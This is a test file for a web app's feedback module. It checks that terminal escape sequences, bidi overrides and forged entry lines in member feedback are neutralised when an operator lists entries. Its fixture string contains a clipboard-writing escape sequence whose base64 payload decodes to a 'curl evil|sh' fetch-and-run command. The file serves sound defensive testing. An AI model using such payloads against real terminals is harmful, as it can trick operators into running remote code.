// Member text in the operator's terminal (PUT /wps/feedback) on both databases: a
// description carrying terminal escape sequences, bidi overrides or a forged "#id" line is printed inert by
// `npm run feedback -- list`, on one line per entry, and the stored text is the member's.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FeedbackResult } from '../../../../src/generated/types.ts';
import { runFeedbackCommand, type FeedbackOperatorContext } from '../../../../src/server/modules/feedback/operator.ts';
import { Client, createAccount, openWorld, uniqueName, type TestWorld } from '../../support/world.ts';
import { removeTemps } from '../../support/fixtures.ts';
import { dbLegs } from '../../support/legs.ts';
import { closeServers } from '../../support/server.ts';

// ESC [2J clears the screen; ESC ] 52 writes the operator's clipboard; U+009B is a one-byte CSI; U+202E flips text
const HOSTILE = 'Deposit late \u001b[2J\u001b]52;c;Y3VybCBldmlsfHNo\u0007 \u009b31m red \u202eevil\nfake line #1  lotus  admin  deposit';
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

describe.each(dbLegs())('feedback security on $name', (leg) => {
  let world: TestWorld;

  beforeAll(async () => {
    if (!leg.available) return;
    world = await openWorld(leg);
  });
  afterAll(async () => {
    await closeServers();
    await world?.dispose();
    removeTemps();
  });

  const operator = (): FeedbackOperatorContext => ({ db: world.db, now: () => world.clock.now(), hasBrand: (id) => ['lotus', 'aurora', 'pebble'].includes(id) });

  describe.skipIf(!leg.available)('', () => {
    it('a hostile description is listed inert: no control character, one entry line and one text line', async () => {
      const username = uniqueName('fs');
      await createAccount(world, { brand: 'lotus', username, password: 'river2468', type: 'member' });
      const c = new Client(world, 'lotus.localhost', '10.25.0.1');
      expect((await c.login(username, 'river2468')).status).toBe(200);
      const sent = await c.put<FeedbackResult>('/wps/feedback', { type: 1, content: HOSTILE, captcha: await c.captcha() });
      expect(sent.status, JSON.stringify(sent.envelope)).toBe(200);
      const id = sent.envelope.value.id;
      const stored = await world.db.query<{ content: string }>('SELECT content FROM feedback WHERE id = $1', [id]);
      expect(stored.rows[0]!.content).toBe(HOSTILE.trim());
      const listed = await runFeedbackCommand(operator(), { command: 'list', brand: 'lotus' });
      const entry = listed.lines.find((l) => l.startsWith(`#${id}  `))!;
      expect(entry).toBeDefined();
      expect(entry).not.toMatch(TERMINAL_CONTROLS);
      const [head, text, ...rest] = entry.split('\n');
      expect(head).toContain(username);
      expect(rest).toEqual([]);
      expect(text).toContain('Deposit late');
      expect(text).toContain('fake line #1');
    });
  });
});
